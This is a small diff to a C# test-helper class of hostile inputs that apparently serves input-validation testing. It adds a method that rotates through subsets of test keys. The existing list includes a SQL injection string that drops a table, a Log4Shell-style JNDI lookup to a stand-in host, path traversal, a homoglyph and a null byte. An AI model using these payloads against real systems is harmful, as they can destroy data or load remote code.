@@ -17,4 +17,7 @@ public static class Vijandig
     /// <summary>One of each kind, where each costs a page.</summary>
     public static IReadOnlyList<string> Enkele { get; } =
         [Script, "GM0405/../GM0014", "GМ0405", "GM0405\0", "'; DROP TABLE events; --", "${jndi:ldap://voorbeeld.test/a}", "GM0405\n", " ", new string('A', 4_000)];
+
+    /// <summary>One of each kind, and of all a third in turn: of many places that are alike, all together get them all.</summary>
+    public static IEnumerable<string> Beurt(int nummer) => Enkele.Union(Sleutels.Where((_, i) => i % 3 == nummer % 3));
 }
